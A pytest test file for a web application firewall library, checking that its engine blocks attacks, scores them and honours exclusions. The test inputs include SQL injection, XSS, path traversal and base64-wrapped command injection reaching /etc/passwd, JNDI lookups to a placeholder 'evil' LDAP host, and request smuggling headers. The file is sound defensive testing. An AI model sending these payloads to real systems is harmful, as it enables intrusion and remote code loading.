"""The engine as a library: verdicts, scoring, paranoia, exclusions, decoding layers."""

from waf import Engine, EngineConfig, Exclusion, Request, inspect


def test_sqli_in_query_is_blocked_with_location_and_text():
    v = inspect(Request.make("GET", "/search?q=1%27%20OR%201%3D1--"))
    assert v.blocked
    assert "sqli" in v.categories
    m = next(m for m in v.matches if m.category == "sqli")
    assert m.location == "query:q"
    assert "OR 1=1" in m.matched


def test_plain_request_passes_with_zero_score():
    v = inspect(Request.make("GET", "/products?page=2&sort=price", {"User-Agent": "Mozilla/5.0"}))
    assert not v.blocked and v.score == 0 and v.matches == ()


def test_score_is_sum_of_rule_severities_once_per_rule():
    v = inspect(Request.make("GET", "/?a=<script>alert(1)</script>&b=<script>x</script>"))
    assert v.score == sum(m.score for m in v.matches)
    assert len({m.rule_id for m in v.matches}) == len(v.matches)


def test_threshold_decides_blocking():
    req = Request.make("GET", "/?q=<script>alert(1)</script>")
    low = Engine(EngineConfig(threshold=5)).inspect(req)
    high = Engine(EngineConfig(threshold=10_000)).inspect(req)
    assert low.blocked and not high.blocked and high.score == low.score > 0


def test_exclusion_by_path_and_parameter_drops_only_that_match():
    cfg = EngineConfig(exclusions=(Exclusion(path="/cms/", params=frozenset({"content"})),))
    eng = Engine(cfg)
    rich = "<p>hello</p><script>alert(1)</script>"
    assert not eng.inspect(
        Request.make(
            "POST", "/cms/page", {"Content-Type": "application/x-www-form-urlencoded"}, "content=" + rich
        )
    ).blocked
    assert eng.inspect(
        Request.make(
            "POST", "/cms/page", {"Content-Type": "application/x-www-form-urlencoded"}, "title=" + rich
        )
    ).blocked
    assert eng.inspect(
        Request.make(
            "POST", "/other", {"Content-Type": "application/x-www-form-urlencoded"}, "content=" + rich
        )
    ).blocked


def test_exclusion_by_rule_id():
    req = Request.make("GET", "/?q=<script>alert(1)</script>")
    ids = {m.rule_id for m in inspect(req).matches}
    eng = Engine(EngineConfig(exclusions=(Exclusion(rule_ids=frozenset(ids)),)))
    assert eng.inspect(req).score == 0


def test_disabled_rules_and_paranoia_filter_rules():
    assert all(r.paranoia <= 1 for r in Engine().rules)
    some = Engine().rules[0].id
    assert some not in {r.id for r in Engine(EngineConfig(disabled_rules=frozenset({some}))).rules}


def test_double_url_encoding_and_unicode_escapes_are_decoded():
    assert inspect(Request.make("GET", "/?f=%252e%252e%252fetc%252fpasswd")).blocked
    assert inspect(
        Request.make(
            "POST",
            "/api",
            {"Content-Type": "application/json"},
            '{"q": "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e"}',
        )
    ).blocked
    assert inspect(Request.make("GET", "/?q=%u003cscript%u003ealert(1)")).blocked


def test_base64_layer_is_inspected():
    import base64

    payload = base64.b64encode(b"; cat /etc/passwd").decode()
    v = inspect(Request.make("GET", f"/?data={payload}"))
    assert v.blocked and any(m.decode_chain[:1] == ("base64",) for m in v.matches)


def test_json_nested_in_form_value_is_flattened():
    v = inspect(
        Request.make(
            "POST",
            "/f",
            {"Content-Type": "application/x-www-form-urlencoded"},
            "meta=%7B%22a%22%3A%7B%22b%22%3A%22%24%7Bjndi%3Aldap%3A%2F%2Fx%2Fa%7D%22%7D%7D",
        )
    )
    assert v.blocked and "jndi" in v.categories


def test_smuggling_headers_are_flagged():
    v = inspect(
        Request.make("POST", "/", [("Content-Length", "4"), ("Transfer-Encoding", "chunked")], "0\r\n\r\n")
    )
    assert v.blocked and "smuggling" in v.categories
    v2 = inspect(Request.make("POST", "/", [("Transfer-Encoding", "xchunked")], "x"))
    assert "smuggling" in v2.categories


def test_verdict_serializes_to_plain_dict():
    d = inspect(Request.make("GET", "/?x=${jndi:ldap://evil/a}")).to_dict()
    assert d["blocked"] is True and d["matches"][0]["rule_id"] > 0 and "jndi" in d["categories"]


def test_compiled_databases_are_cached_on_disk_and_a_corrupt_cache_is_ignored(tmp_path, monkeypatch):
    import waf._engine as eng
    from waf._rules import builtin_rules

    monkeypatch.setenv("NETGUARD_WAF_CACHE", str(tmp_path))
    rules = [r for r in builtin_rules() if r.category == "xss"][:3]
    monkeypatch.setattr(eng, "_COMPILED", {})
    first = Engine(rules=rules)
    files = list(tmp_path.glob("hs-*.db"))
    assert files
    for f in files:
        f.write_bytes(b"garbage")
    monkeypatch.setattr(eng, "_COMPILED", {})
    second = Engine(rules=rules)  # the corrupt files are recompiled, not trusted
    req = Request.make("GET", "/?q=<script>alert(1)</script>")
    assert first.inspect(req).score == second.inspect(req).score > 0


def test_higher_paranoia_runs_stricter_rules():
    req = Request.make("GET", "/?q=" + "please%20select%20the%20name%20from%20the%20list")
    assert not Engine(EngineConfig(paranoia=1)).inspect(req).blocked
    v = Engine(EngineConfig(paranoia=2)).inspect(req)
    assert v.blocked and any(m.paranoia == 2 for m in v.matches)


def test_exclusion_cannot_be_bypassed_by_repeating_the_payload_in_another_parameter():
    cfg = EngineConfig(exclusions=(Exclusion(path="/cms/", params=frozenset({"content"})),))
    eng = Engine(cfg)
    payload = "%3Cscript%3Ealert(1)%3C%2Fscript%3E"
    ct = {"Content-Type": "application/x-www-form-urlencoded"}
    only_excluded = eng.inspect(Request.make("POST", "/cms/p", ct, f"content={payload}"))
    assert not only_excluded.blocked
    both = eng.inspect(Request.make("POST", "/cms/p", ct, f"content={payload}&title={payload}"))
    assert both.blocked and all(m.location == "form:title" for m in both.matches if m.category == "xss")


def test_multipart_part_with_utf7_charset_is_flagged_and_utf8_is_not():
    def body(charset: str) -> str:
        return ("--b\r\nContent-Disposition: form-data; name=\"x\"\r\n"
                f"Content-Type: text/plain; charset={charset}\r\n\r\nhello\r\n--b--\r\n")  # fmt: skip

    ct = {"Content-Type": "multipart/form-data; boundary=b"}
    assert "multipart" in inspect(Request.make("POST", "/", ct, body("utf-7"))).categories
    assert inspect(Request.make("POST", "/", ct, body("utf-8"))).matches == ()


def test_value_repeated_in_many_places_cannot_hide_behind_a_parameter_exclusion():
    cfg = EngineConfig(exclusions=(Exclusion(params=frozenset({f"c{i}" for i in range(100)})),))
    payload = "%3Cscript%3Ealert(1)%3C%2Fscript%3E"
    eng = Engine(cfg)
    ten = "&".join(f"c{i}={payload}" for i in range(10))
    assert not eng.inspect(Request.make("GET", f"/?{ten}")).blocked
    assert eng.inspect(Request.make("GET", f"/?{ten}&title={payload}")).blocked
    # past 64 places a repeated value is no longer tracked place by place: it counts (fail closed)
    hundred = "&".join(f"c{i}={payload}" for i in range(100))
    assert eng.inspect(Request.make("GET", f"/?{hundred}")).blocked
